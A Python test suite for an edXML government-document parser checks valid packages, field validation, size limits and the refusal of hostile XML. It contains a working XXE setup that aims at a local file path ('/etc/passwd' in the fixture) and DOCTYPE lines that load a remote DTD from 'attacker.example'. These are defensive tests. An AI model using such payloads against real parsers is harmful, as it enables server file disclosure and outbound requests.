"""Reading edXML packages from the axis: hand-written packages, hostile ones, refusals (no I/O
beyond the fixtures)."""

from __future__ import annotations

from datetime import date, datetime
from pathlib import Path

import pytest
from lxml import etree

from egov_shared.timeutil import VN_TZ
from svc_docflow.edxml import (
    Attachment,
    DocumentPackage,
    Organ,
    PackageError,
    ResponseFor,
    StatusPackage,
    TraceHeader,
    parse_package,
)

FIXTURES = Path(__file__).parent.parent / "fixtures" / "edxml"
LIMIT = 1_000_000
PDF = (b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
       b"2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n")
VPCP = "new_document_vpcp.xml"
STATUS = "status_registered.xml"


def fixture(name: str) -> bytes:
    return (FIXTURES / name).read_bytes()


def mutated(name: str, old: str, new: str) -> bytes:
    text = (FIXTURES / name).read_text(encoding="utf-8")
    assert old in text, f"{old!r} not in {name}"  # a mutation that misses would prove nothing
    return text.replace(old, new).encode()


def document(data: bytes) -> DocumentPackage:
    got = parse_package(data, max_bytes=LIMIT)
    assert isinstance(got, DocumentPackage)
    return got


def status(data: bytes) -> StatusPackage:
    got = parse_package(data, max_bytes=LIMIT)
    assert isinstance(got, StatusPackage)
    return got


def refusal(data: bytes, **limits: int) -> PackageError:
    with pytest.raises(PackageError) as caught:
        parse_package(data, max_bytes=limits.pop("max_bytes", LIMIT), **limits)
    return caught.value


class TestHandWrittenPackages:
    def test_document_from_the_government_office(self) -> None:
        assert parse_package(fixture(VPCP), max_bytes=LIMIT) == DocumentPackage(
            from_organ=Organ(
                organ_id="000.00.00.G22", organ_name="Văn phòng Chính phủ",
                organ_add="Số 1 Hoàng Hoa Thám, Ba Đình, Hà Nội", email="vanthu@chinhphu.vn",
                telephone="080 43162", website="chinhphu.vn", fax=None,
                organization_in_charge="Chính phủ"),
            to_organs=(Organ("000.00.00.H56", "Ủy ban nhân dân tỉnh Thanh Hóa"),
                       Organ("000.00.00.H41", "Ủy ban nhân dân tỉnh Nghệ An")),
            code_number="8123", code_notation="VPCP-KSTT", place="Hà Nội",
            promulgation_date=date(2026, 11, 20), type=1, type_name="Công văn",
            subject="V/v đẩy mạnh thực hiện thủ tục hành chính trực tuyến toàn trình",
            content="Đề nghị Ủy ban nhân dân các tỉnh báo cáo kết quả trước ngày 15 tháng 12.",
            signer_competence="KT. BỘ TRƯỞNG, CHỦ NHIỆM", signer_position="Phó Chủ nhiệm",
            signer_full_name="Nguyễn Sỹ Hiệp", due_date=date(2026, 12, 15),
            to_places=("Như trên", "Lưu: VT, KSTT"), priority=1,
            steering_type="Chỉ đạo trực tiếp",
            document_id="000.00.00.G22,2026/11/20,8123/VPCP-KSTT",
            trace=(TraceHeader("000.00.00.G22", datetime(2026, 11, 20, 16, 45, 3, tzinfo=VN_TZ)),),
            business_doc_type=0, business_reason="Văn bản mới",
            attachments=(Attachment(
                name="8123-VPCP-KSTT.signed.pdf", content_type="application/pdf", content=PDF,
                description="Văn bản đã ký số",
                content_id="7d3f2a10-5b8e-4c1a-9f0e-2b6c8d4e1a33"),),
            sphere_of_promulgation="Liên thông văn bản quốc gia", typer_notation="ĐTH",
            promulgation_amount=65, page_amount=2,
        )

    def test_status_registered(self) -> None:
        assert parse_package(fixture(STATUS), max_bytes=LIMIT) == StatusPackage(
            from_organ=Organ(
                "000.00.00.H56", "Ủy ban nhân dân tỉnh Thanh Hóa",
                organ_add="Số 35 Đại lộ Lê Lợi, phường Hạc Thành, tỉnh Thanh Hóa",
                email="vanthu@thanhhoa.gov.vn"),
            response_for=ResponseFor("000.00.00.G22", "8123/VPCP-KSTT", date(2026, 11, 20),
                                     "000.00.00.G22,2026/11/20,8123/VPCP-KSTT"),
            status_code="03", description="Văn thư đã vào sổ văn bản đến, số đến 1457",
            timestamp=datetime(2026, 11, 21, 8, 12, 40, tzinfo=VN_TZ),
            staff_department="Văn phòng UBND tỉnh", staff_name="Lê Thị Hường",
            staff_email="huonglt@thanhhoa.gov.vn", staff_mobile="0912345678",
        )

    def test_recall(self) -> None:
        got = document(fixture("recall.xml"))
        assert (got.business_doc_type, got.business_reason) == (
            1, "Thu hồi do ghi sai trích yếu, sẽ ban hành lại")
        assert got.response_for == (ResponseFor("000.00.14.H56", "12/QĐ-STP", date(2026, 11, 28),
                                                "000.00.14.H56,2026/11/28,12/QĐ-STP"),)
        assert (got.code_notation, got.type_name) == ("QĐ-STP", "Quyết định")
        assert (got.content, got.due_date, got.to_places, got.attachments) == (None, None, (), ())
        assert got.steering_type == "0"

    def test_timestamps_are_vietnam_time(self) -> None:
        got = status(fixture(STATUS))
        assert got.timestamp.isoformat() == "2026-11-21T08:12:40+07:00"


class TestHostilePackages:
    @pytest.mark.parametrize(("name", "code"), [
        ("hostile_xxe.xml", "xml_forbidden"),
        ("hostile_billion_laughs.xml", "xml_forbidden"),
        ("wrong_namespace.xml", "not_edxml"),
        ("not_xml.xml", "xml_malformed"),
        ("missing_document_id.xml", "missing_field"),
    ])
    def test_refused_with_its_code(self, name: str, code: str) -> None:
        assert refusal(fixture(name)).code == code

    def test_missing_document_id_names_the_field(self) -> None:
        error = refusal(fixture("missing_document_id.xml"))
        assert error.field == "DocumentId"
        assert "DocumentId" in error.message

    def test_xxe_never_reads_the_file(self, tmp_path: Path) -> None:
        secret = tmp_path / "secret.txt"
        secret.write_text("SENTINEL-xxe-9f2c")
        data = mutated("hostile_xxe.xml", "file:///etc/passwd", secret.as_uri())
        # The package is a working XXE: a parser that resolves entities reads the file.
        naive = etree.XMLParser(resolve_entities=True, load_dtd=True, no_network=True)
        assert b"SENTINEL-xxe-9f2c" in etree.tostring(etree.fromstring(data, naive))
        error = refusal(data)
        assert error.code == "xml_forbidden"
        assert "SENTINEL" not in f"{error} {error.message}"

    @pytest.mark.parametrize("doctype", [
        '<!DOCTYPE edXML SYSTEM "http://attacker.example/edxml.dtd">',
        '<!DOCTYPE edXML [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>',
        "<!DOCTYPE edXML>",
    ])
    def test_any_doctype_is_refused(self, doctype: str) -> None:
        data = mutated(STATUS, '<edXML xmlns=', f"{doctype}\n<edXML xmlns=")
        assert refusal(data).code == "xml_forbidden"

    @pytest.mark.parametrize("data", [b"", b"   ", b"<edXML", b'{"json": true}'])
    def test_not_xml(self, data: bytes) -> None:
        assert refusal(data).code == "xml_malformed"

    def test_unprefixed_package_without_namespace(self) -> None:
        data = (b'<edXML><edXMLEnvelope><edXMLHeader><MessageHeader/></edXMLHeader>'
                b"</edXMLEnvelope></edXML>")
        assert refusal(data).code == "not_edxml"

    def test_envelope_without_message_or_status(self) -> None:
        data = mutated(STATUS, "edXML:Status>", "edXML:Statut>")
        assert refusal(data).code == "not_edxml"


class TestSizeLimits:
    def test_checked_before_parsing(self) -> None:
        data = fixture(VPCP)
        assert parse_package(data, max_bytes=len(data))
        error = refusal(data, max_bytes=len(data) - 1)
        assert error.code == "package_too_large"

    def test_a_hostile_non_xml_blob_is_refused_by_size_first(self) -> None:
        assert refusal(b"\x00" * 2048, max_bytes=1024).code == "package_too_large"

    def test_one_text_node_over_libxml2s_limit(self) -> None:
        data = mutated(VPCP, "IFI+PgolJUVPRgo=", "A" * 10_000_004 + "IFI+PgolJUVPRgo=")
        assert refusal(data, max_bytes=20_000_000).code == "package_too_large"


class TestNamespaces:
    def test_any_prefix_bound_to_the_namespace(self) -> None:
        text = fixture(VPCP).decode().replace("edXML:", "q:").replace("xmlns:edXML=", "xmlns:q=")
        assert parse_package(text.encode(), max_bytes=LIMIT) == parse_package(
            fixture(VPCP), max_bytes=LIMIT)

    def test_default_namespace_without_prefix(self) -> None:
        text = fixture(STATUS).decode().replace("edXML:", "")
        text = text.replace(' xmlns:edXML="http://www.mic.gov.vn/TBT/QCVN_102_2016"', "")
        assert parse_package(text.encode(), max_bytes=LIMIT) == parse_package(
            fixture(STATUS), max_bytes=LIMIT)

    def test_envelope_at_the_root(self) -> None:
        text = fixture(STATUS).decode()
        start = text.index("<edXML:edXMLEnvelope")
        end = text.index("</edXML:edXMLEnvelope>") + len("</edXML:edXMLEnvelope>")
        got = parse_package(text[start:end].encode(), max_bytes=LIMIT)
        assert got == parse_package(fixture(STATUS), max_bytes=LIMIT)


class TestFieldRefusals:
    @pytest.mark.parametrize(("old", "new", "code", "field"), [
        ("<edXML:OrganId>000.00.00.G22</edXML:OrganId>\n          <edXML:OrganizationInCharge>",
         "<edXML:OrganizationInCharge>", "missing_field", "From/OrganId"),
        ("<edXML:CodeNumber>8123</edXML:CodeNumber>", "", "missing_field", "Code/CodeNumber"),
        ("<edXML:Subject>V/v đẩy mạnh thực hiện thủ tục hành chính trực tuyến toàn trình"
         "</edXML:Subject>", "", "missing_field", "Subject"),
        (",2026/11/20,8123/", ",2026/11/21,8123/", "invalid_field", "DocumentId"),
        (">2026/11/20</edXML:PromulgationDate>", ">2026-11-20</edXML:PromulgationDate>",
         "invalid_field", "PromulgationInfo/PromulgationDate"),
        ("<edXML:DueDate>2026/12/15", "<edXML:DueDate>2026/02/30", "invalid_field", "DueDate"),
        ("<edXML:Priority>1", "<edXML:Priority>khẩn", "invalid_field", "OtherInfo/Priority"),
        ("<edXML:Priority>1", "<edXML:Priority>7", "invalid_field", "OtherInfo/Priority"),
        ("<edXML:Type>1", "<edXML:Type>-1", "invalid_field", "DocumentType/Type"),
        ("<edXML:PageAmount>2", "<edXML:PageAmount>２", "invalid_field", "OtherInfo/PageAmount"),
        ("<edXML:BussinessDocType>0", "<edXML:BussinessDocType>9", "invalid_field",
         "Bussiness/BussinessDocType"),
        ("16:45:03</edXML:Timestamp>", "16h45</edXML:Timestamp>", "invalid_field",
         "TraceHeader/Timestamp"),
        ("2026/11/20</edXML:PromulgationDate>", "9999/11/20</edXML:PromulgationDate>",
         "invalid_field", "PromulgationInfo/PromulgationDate"),
    ])
    def test_refused(self, old: str, new: str, code: str, field: str) -> None:
        error = refusal(mutated(VPCP, old, new))
        assert (error.code, error.field) == (code, field)

    def test_no_recipient(self) -> None:
        text = fixture(VPCP).decode()
        start, end = text.index("<edXML:To>"), text.rindex("</edXML:To>") + len("</edXML:To>")
        error = refusal((text[:start] + text[end:]).encode())
        assert (error.code, error.field) == ("missing_field", "To")

    def test_subject_of_500_characters_passes_501_does_not(self) -> None:
        old = "V/v đẩy mạnh thực hiện thủ tục hành chính trực tuyến toàn trình"
        assert parse_package(mutated(VPCP, old, "Đ" * 500), max_bytes=LIMIT)
        error = refusal(mutated(VPCP, old, "Đ" * 501))
        assert (error.code, error.field) == ("invalid_field", "Subject")

    def test_any_steering_type(self) -> None:
        assert document(mutated(VPCP, "Chỉ đạo trực tiếp", "3")).steering_type == "3"

    def test_day_first_dates_of_some_sdks(self) -> None:
        data = mutated(STATUS, "2026/11/21 08:12:40", "21/11/2026 08:12:40")
        assert status(data).timestamp == datetime(2026, 11, 21, 8, 12, 40, tzinfo=VN_TZ)

    def test_business_under_the_corrected_spelling(self) -> None:
        data = fixture("recall.xml").decode().replace("Bussiness", "Business").encode()
        assert document(data).business_doc_type == 1


class TestStatusCodes:
    @pytest.mark.parametrize("code", ["01", "02", "03", "04", "05", "06", "13", "15", "16"])
    def test_listed_codes(self, code: str) -> None:
        assert status(mutated(STATUS, ">03<", f">{code}<")).status_code == code

    @pytest.mark.parametrize("code", ["07", "99", "ba", "003"])
    def test_unlisted_codes(self, code: str) -> None:
        error = refusal(mutated(STATUS, ">03<", f">{code}<"))
        assert (error.code, error.field) == ("invalid_field", "StatusCode")

    def test_leading_zero_restored(self) -> None:
        assert status(mutated(STATUS, ">03<", ">3<")).status_code == "03"

    def test_status_without_response_for(self) -> None:
        text = fixture(STATUS).decode()
        start = text.index("<edXML:ResponseFor>")
        end = text.index("</edXML:ResponseFor>") + len("</edXML:ResponseFor>")
        error = refusal((text[:start] + text[end:]).encode())
        assert (error.code, error.field) == ("missing_field", "ResponseFor")


class TestAttachments:
    def test_content_whitespace_allowed_junk_refused(self) -> None:
        error = refusal(mutated(VPCP, "IFI+PgolJUVPRgo=", "IFI+Pgol*UVPRgo="))
        assert error.code == "invalid_attachment"

    def test_base64_padding_is_strict(self) -> None:
        assert refusal(mutated(VPCP, "IFI+PgolJUVPRgo=", "IFI+PgolJUVPRgo")).code == (
            "invalid_attachment")

    def test_more_than_allowed(self) -> None:
        assert refusal(fixture(VPCP), max_attachments=0).code == "invalid_attachment"

    def test_manifest_entry_without_content(self) -> None:
        data = mutated(VPCP, "<ContentId>7d3f2a10", "<ContentId>00000000")
        assert refusal(data).code == "invalid_attachment"

    def test_metadata_from_the_manifest_when_the_attachment_omits_it(self) -> None:
        data = mutated(VPCP, "<AttachmentName>8123-VPCP-KSTT.signed.pdf</AttachmentName>", "")
        assert document(data).attachments[0].name == "8123-VPCP-KSTT.signed.pdf"
